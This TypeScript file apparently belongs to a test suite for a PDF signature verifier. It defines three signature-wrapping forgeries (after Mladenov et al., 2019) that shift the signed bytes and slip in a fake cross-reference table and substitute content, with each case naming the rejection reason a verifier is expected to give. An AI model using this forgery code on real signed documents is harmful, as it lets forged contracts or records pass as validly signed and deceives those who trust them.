// Signature wrapping (SWA): the signed bytes are all there and hash as they did, but in other places; what a reader shows
// stands between them. Mladenov et al., CCS 2019.

import { type Attack, OTHER_CONTENT } from './attack.ts';
import { entryOf, type Victim } from './victim.ts';

/**
 * The second signed part moved back. In the gap: the end of the dictionary with a range that fits, a table just where the
 * signed end of the file says it is, another content, and the beginning of an object that swallows the second part.
 */
function wrapped(victim: Victim, range: (moved: number, rest: number) => string): Buffer {
  const [, close] = victim.hole;
  const [, , , rest = 0] = victim.signature.byteRange;
  const { startXref } = victim;
  const moved = startXref + 3_000;
  const lie = `4 0 obj\n${OTHER_CONTENT}\nendobj\n`;
  const lengthOfTable = tableOf(victim, 0, 0).length;
  const table = tableOf(victim, startXref + lengthOfTable, moved - close);
  const front = `${range(moved, rest)} >>\nendobj\n`.padEnd(startXref - close);
  const back = '99 0 obj\n<< ';
  const gap = `${(front + table + lie).padEnd(moved - close - back.length)}${back}`;
  return Buffer.from(victim.text.slice(0, close) + gap + victim.text.slice(close), 'latin1');
}

function tableOf(victim: Victim, lieAt: number, shift: number): string {
  const [, close] = victim.hole;
  const places = new Map<number, number>();
  for (const match of victim.text.matchAll(/(?<=\n)(\d+) 0 obj/g))
    places.set(Number(match[1]), match.index >= close ? match.index + shift : match.index);
  places.set(4, lieAt);
  const rows = [...places].map(([num, at]) => entryOf(num, at)).join('');
  return `xref\n${rows}trailer\n<< /Size 2000 /Root ${victim.root} >>\nstartxref\n${victim.startXref}\n%%EOF\n`;
}

const REASONS = ['BYTE_RANGE_ANOMALY', 'FORMAT_FAILURE', 'HASH_FAILURE'] as const;

export const SIGNATURE_WRAPPING: Attack[] = [
  {
    name: 'with a second /ByteRange in the gap',
    reasons: REASONS,
    keepsSignature: false,
    forge: (victim) => wrapped(victim, (moved, rest) => ` /ByteRange [0 ${victim.hole[0]} ${moved} ${rest}]`),
  },
  {
    name: 'with the old /ByteRange',
    reasons: REASONS,
    keepsSignature: false,
    forge: (victim) => wrapped(victim, () => ''),
  },
  {
    name: 'with an object between the string and the second part',
    reasons: REASONS,
    keepsSignature: false,
    forge: (victim) => {
      const [open, close] = victim.hole;
      const inside = `<${victim.cms}> endobj 4 0 obj ${OTHER_CONTENT} endobj 99 0 obj <`;
      const hole = `${inside.padEnd(close - open - 1, '0')}>`;
      return Buffer.from(victim.text.slice(0, open) + hole + victim.text.slice(close), 'latin1');
    },
  },
];
